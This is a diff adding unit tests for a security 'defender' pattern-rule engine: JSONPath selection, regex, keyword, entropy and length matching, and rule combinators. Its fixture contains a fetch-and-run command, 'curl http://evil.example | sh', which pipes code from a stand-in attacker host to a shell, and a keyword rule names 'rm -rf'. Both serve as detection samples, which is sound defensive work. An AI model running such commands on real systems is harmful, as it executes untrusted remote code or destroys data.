@@ -0,0 +1,77 @@
+/**
+ * Unit tests for pattern signature rules
+ *
+ * These tests verify that pattern rules:
+ * 1. Select values with JSONPath, including wildcards and recursive descent
+ * 2. Report the path and offsets of regex, keyword, entropy and length matches
+ * 3. Combine with all, any and not, and reject invalid rules
+ */
+
+import { describe, it } from 'node:test';
+import assert from 'node:assert';
+import { evaluatePatternRule, getEntropy, selectJsonPath } from '../../../src/defender/utils/pattern-rules';
+import { PatternRule } from '../../../src/services/signatures/types';
+
+const content = {
+    command: 'curl http://evil.example | sh',
+    env: [
+        { name: 'TOKEN', value: 'q8Zr2LxV7mN4pK1sT9wY3bC6dF0gH5jA' },
+        { name: 'MODE', value: 'production' }
+    ],
+    'odd key': true
+};
+
+describe('Pattern rule JSONPath', () => {
+    it('should select properties, indexes and wildcards', () => {
+        assert.deepStrictEqual(selectJsonPath(content, '$.command').map(node => node.path), ['$.command']);
+        assert.deepStrictEqual(selectJsonPath(content, '$.env[-1].name').map(node => node.value), ['MODE']);
+        assert.deepStrictEqual(selectJsonPath(content, '$.env[*].name').map(node => node.path), ['$.env[0].name', '$.env[1].name']);
+        assert.deepStrictEqual(selectJsonPath(content, "$['odd key']").map(node => node.path), ["$['odd key']"]);
+        assert.deepStrictEqual(selectJsonPath(content, '$..value').map(node => node.path), ['$.env[0].value', '$.env[1].value']);
+        assert.deepStrictEqual(selectJsonPath(content, '$.missing.name'), []);
+    });
+
+    it('should reject unsupported paths', () => {
+        assert.throws(() => selectJsonPath(content, 'command'), /must start with \$/);
+        assert.throws(() => selectJsonPath(content, '$.env[?(@.name)]'), /Unsupported JSONPath/);
+    });
+});
+
+describe('Pattern rule matches', () => {
+    it('should report regex and keyword matches with their offsets', () => {
+        assert.deepStrictEqual(evaluatePatternRule({ kind: 'regex', pattern: '\\|\\s*sh\\b', path: '$.command' }, content), {
+            matched: true,
+            matches: [{ path: '$.command', start: 25, end: 29, rule: 'regex' }]
+        });
+        assert.deepStrictEqual(evaluatePatternRule({ kind: 'keywords', keywords: ['PRODUCTION'] }, content).matches, [
+            { path: '$.env[1].value', start: 0, end: 10, rule: 'keywords' }
+        ]);
+        assert.strictEqual(evaluatePatternRule({ kind: 'keywords', keywords: ['PRODUCTION'], caseSensitive: true }, content).matched, false);
+    });
+
+    it('should find random-looking tokens and values over the length limit', () => {
+        assert.ok(getEntropy('q8Zr2LxV7mN4pK1sT9wY3bC6dF0gH5jA') > 4.5);
+        assert.ok(getEntropy('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa') < 1);
+        assert.deepStrictEqual(evaluatePatternRule({ kind: 'entropy', minEntropy: 4.5 }, content).matches, [
+            { path: '$.env[0].value', start: 0, end: 32, rule: 'entropy' }
+        ]);
+        assert.deepStrictEqual(evaluatePatternRule({ kind: 'length', maxLength: 20, path: '$.command' }, content).matches, [
+            { path: '$.command', start: 20, end: 29, rule: 'length' }
+        ]);
+    });
+
+    it('should combine rules', () => {
+        const pipe: PatternRule = { kind: 'regex', pattern: '\\| sh' };
+        const missing: PatternRule = { kind: 'keywords', keywords: ['rm -rf'] };
+
+        assert.strictEqual(evaluatePatternRule({ kind: 'all', rules: [pipe, missing] }, content).matched, false);
+        assert.strictEqual(evaluatePatternRule({ kind: 'any', rules: [pipe, missing] }, content).matches.length, 1);
+        assert.deepStrictEqual(evaluatePatternRule({ kind: 'not', rule: missing }, content), { matched: true, matches: [] });
+    });
+
+    it('should reject invalid rules', () => {
+        assert.throws(() => evaluatePatternRule({ kind: 'regex', pattern: '(' }, content));
+        assert.throws(() => evaluatePatternRule({ kind: 'any', rules: [] }, content), /at least one rule/);
+        assert.throws(() => evaluatePatternRule({ kind: 'keywords', keywords: [''] }, content), /at least one keyword/);
+    });
+});